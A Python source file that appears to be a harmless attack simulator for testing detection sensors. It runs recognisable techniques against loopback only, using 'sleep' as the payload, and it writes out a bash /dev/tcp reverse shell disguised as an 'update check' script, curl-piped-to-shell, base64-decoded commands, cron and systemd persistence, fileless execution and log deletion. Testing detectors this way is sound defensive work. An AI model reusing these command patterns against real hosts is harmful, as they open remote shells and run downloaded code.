"""A harmless simulation of an attack, in a folder, a control group and a network namespace of its own.

Run as a program by itself (the standard library is all it needs): `python -I attack.py '{"folder": ..., ...}'`.
It does the acts it is told, one after another, and prints one JSON object for each: name, when it began and ended.
All that it writes lies below the folder; all that it connects to is a listener of its own on loopback; what it
downloads and decodes is a `sleep`. Without root there is neither control group nor namespace, and it is as harmless.
"""

import base64
import contextlib
import ctypes
import fcntl
import http.server
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

_CLONE_NEWNET = 0x40000000
_SIOCGIFFLAGS, _SIOCSIFFLAGS, _IFF_UP = 0x8913, 0x8914, 1
_REVERSE_SHELL = "#!/bin/bash\n# update check\nbash -i >& /dev/tcp/127.0.0.1/{port} 0>&1\n"


class Attack:
    """The acts, over one folder and one loopback listener."""

    def __init__(self, folder: Path, hold: float) -> None:
        """`hold`: how long what is started lives, seconds; a sensor that polls sees nothing shorter."""
        self.folder = folder
        self.hold = f"{hold:g}"
        self.home = self._made("home/an")
        # As on any machine these are there before: of what happens in a new folder a directory watch sees little.
        for place in ("etc/cron.d", "home/an/Downloads", "home/an/.config/systemd/user", "var/log"):
            self._made(place)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]

    def _made(self, name: str) -> Path:
        made = self.folder / name
        made.mkdir(parents=True, exist_ok=True)
        return made

    def _run(self, *command: str) -> None:
        quiet = subprocess.DEVNULL
        with contextlib.suppress(subprocess.TimeoutExpired):
            # A home of its own: an interactive shell reads what it finds there.
            own = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.home)}
            with subprocess.Popen(command, stdin=quiet, stdout=quiet, stderr=quiet, cwd=self.home, env=own) as started:
                started.wait(15)

    def download_piped_to_shell(self) -> None:
        """Fetch a script from loopback and run it unseen."""
        script = f"sleep {self.hold}\n".encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            """Gives the same script to everybody."""

            def do_GET(self) -> None:
                """Answer any request."""
                self.send_response(200)
                self.send_header("Content-Length", str(len(script)))
                self.end_headers()
                self.wfile.write(script)

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
            threading.Thread(target=server.serve_forever, daemon=True).start()
            fetch = "curl -s" if shutil.which("curl") or not shutil.which("wget") else "wget -qO-"
            address = f"http://127.0.0.1:{server.server_port}/install"
            self._run("sh", "-c", f"{fetch} {address} | sh && sleep {self.hold}")
            server.shutdown()

    def encoded_command(self) -> None:
        """Decode a command and run it."""
        encoded = base64.b64encode(f"sleep {self.hold}".encode()).decode()
        self._run("sh", "-c", f"echo {encoded} | base64 -d | sh")

    def scheduled_job(self) -> None:
        """Leave a job for the clock, below the folder."""
        job = self.home / "job"
        job.write_text("*/5 * * * * an /bin/true\n")
        self._run("cp", str(job), str(self._made("etc") / "crontab"))
        self._run("cp", str(job), str(self._made("etc/cron.d") / "sync"))

    def user_service(self) -> None:
        """Leave a service that would start with the login, below the folder."""
        unit = self.home / "unit"
        unit.write_text("[Service]\nExecStart=/bin/true\n")
        self._run("cp", str(unit), str(self._made("home/an/.config/systemd/user") / "sync.service"))

    def reverse_shell(self) -> None:
        """Give a shell to a listener on loopback; the listener tells it to leave."""

        def listen() -> None:
            with contextlib.suppress(OSError):
                peer, _ = self.listener.accept()
                with peer:
                    time.sleep(float(self.hold))
                    peer.sendall(b"exit\n")
                    peer.settimeout(5)
                    while peer.recv(4096):
                        pass

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        self._run("bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{self.port} 0>&1")
        thread.join(5)

    def program_from_memory(self) -> None:
        """Run a copy of `sleep` that has no file."""
        child = os.fork()
        if child == 0:
            fd = os.memfd_create("job")
            os.write(fd, Path(shutil.which("sleep") or "/bin/sleep").read_bytes())
            os.execve(fd, ["job", self.hold], {})  # noqa: S606 - no shell is wanted
        os.waitpid(child, 0)

    def dropped_script(self) -> None:
        """Drop a script that YARA knows; it is never run."""
        script = self._made("home/an/Downloads") / "update.sh"
        with script.open("w") as file:
            os.fchmod(file.fileno(), 0o755)
            file.write(_REVERSE_SHELL.format(port=self.port))

    def log_cleared(self) -> None:
        """Remove a log, below the folder."""
        log = self._made("var/log") / "auth.log"
        log.write_text("login\n")
        self._run("rm", "-f", str(log))

    def system_looked_over(self) -> None:
        """Ask what system this is; no rule of the first bundle minds."""
        self._run("sh", "-c", f"uname --all && sleep {self.hold}")


ACTS: dict[str, Callable[[Attack], None]] = {
    act.__name__: act
    for act in (
        Attack.download_piped_to_shell,
        Attack.encoded_command,
        Attack.scheduled_job,
        Attack.user_service,
        Attack.reverse_shell,
        Attack.program_from_memory,
        Attack.dropped_script,
        Attack.log_cleared,
        Attack.system_looked_over,
    )
}


def enter(cgroup: str) -> None:
    """Move into the control group, then into a network namespace whose loopback is up; needs root."""
    if cgroup:
        (Path(cgroup) / "cgroup.procs").write_text(str(os.getpid()))
    if os.geteuid() != 0 or ctypes.CDLL(None, use_errno=True).unshare(_CLONE_NEWNET):
        return
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        request = struct.pack("16sH14x", b"lo", 0)
        (flags,) = struct.unpack_from("H", fcntl.ioctl(control, _SIOCGIFFLAGS, request), 16)
        fcntl.ioctl(control, _SIOCSIFFLAGS, struct.pack("16sH14x", b"lo", flags | _IFF_UP))


def main(options: dict[str, Any]) -> None:
    """Do the acts that `options` name: {folder, cgroup, hold, pause, acts}."""
    enter(options["cgroup"])
    os.chdir(options["folder"])
    attack = Attack(Path(options["folder"]), options["hold"])
    for name in options["acts"]:
        began = time.time_ns()
        ACTS[name](attack)
        time.sleep(options["pause"])
        sys.stdout.write(json.dumps({"act": name, "began": began, "ended": time.time_ns()}) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
